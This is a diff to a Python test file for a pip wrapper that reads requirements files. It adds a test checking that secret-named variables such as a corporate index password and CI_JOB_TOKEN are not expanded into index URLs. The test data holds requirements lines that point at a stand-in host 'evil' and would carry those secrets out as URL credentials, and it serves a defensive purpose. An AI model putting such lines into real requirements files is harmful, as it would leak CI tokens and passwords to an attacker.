@@ -131,7 +131,28 @@ def test_what_asks_nothing(ask: Discover, args: tuple[str, ...]) -> None:
 def test_uninstall_fetches_remote_files(ask: Discover) -> None:
     """It looks at no index, and reads requirements files from anywhere."""
     found = ask("uninstall", "-r", "https://h/r.txt", PIP_INDEX_URL="https://i/")
-    assert found == Invocation("uninstall", links=(Located("https://h/r.txt", "-r"),))
+    remote = (Located("https://h/r.txt", "-r"),)
+    assert found == Invocation("uninstall", links=remote, remote_files=remote)
+
+
+def test_a_requirements_file_gets_no_secret_by_its_name(tmp_path: Path) -> None:
+    """A15: a variable that pip will not have is not filled in here either, and nobody is sent it as a password."""
+    lines = (
+        "-i https://u:${AUTHPIP_INDEX_CORP_PASSWORD}@evil/simple/",
+        "--extra-index-url https://ci:${CI_JOB_TOKEN}@evil/${CI_JOB_TOKEN}/",
+        "--extra-index-url https://ci:${OTHER}@own/",
+        "--extra-index-url https://ci:${AUTHPIP_INDEX_UNSET}@own/",
+    )
+    write(tmp_path / "r.txt", "\n".join(lines))
+    environ = {"AUTHPIP_INDEX_CORP_PASSWORD": "hidden", "CI_JOB_TOKEN": "hidden", "OTHER": "shown"}
+    args = ["install", "-r", "r.txt"]
+    found = discover(args, environ, prefix="/", cwd=str(tmp_path), withheld=["CI_JOB_TOKEN"])
+    assert [index.url for index in found.indexes] == [
+        "https://evil/simple/",
+        "https://evil/${CI_JOB_TOKEN}/",
+        "https://ci:shown@own/",
+        "https://ci:${AUTHPIP_INDEX_UNSET}@own/",
+    ]
 
 
 def test_what_requests_must_respect(ask: Discover, tmp_path: Path) -> None:
